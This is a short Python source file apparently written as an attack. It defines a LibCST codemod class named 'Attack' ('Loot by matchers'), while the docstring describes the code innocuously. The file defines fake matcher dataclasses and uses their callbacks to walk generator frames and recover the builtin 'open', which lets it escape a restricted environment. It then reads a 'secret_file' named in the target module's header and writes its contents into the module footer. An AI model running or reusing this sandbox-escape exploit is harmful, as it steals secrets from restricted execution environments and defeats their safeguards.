"""Let LibCST's matchers read the attributes: a matcher is a dataclass, and its fields may have any name."""

import ast
from dataclasses import dataclass

import libcst as cst
import libcst.matchers as m
from libcst.codemod import VisitorBasedCodemodCommand


@dataclass
class generator(m.BaseMatcherNode):
    gi_frame: object


@dataclass
class frame(m.BaseMatcherNode):
    f_back: object
    f_builtins: object


def climb(running):
    found = running[:]
    m.matches(found[0], generator(gi_frame=m.MatchIfTrue(lambda value: not found.append(value))))
    while isinstance(found[-1], type(found[1])):
        seen = frame(
            f_back=m.MatchIfTrue(lambda value: not found.append(value)), f_builtins=m.MatchIfTrue(taken.append)
        )
        m.matches(found[-1], seen)
    yield next(each["open"] for each in taken if "open" in each)


taken = []


def read(path):
    running = []
    running.append(climb(running))
    return next(running[0])(path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by matchers."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
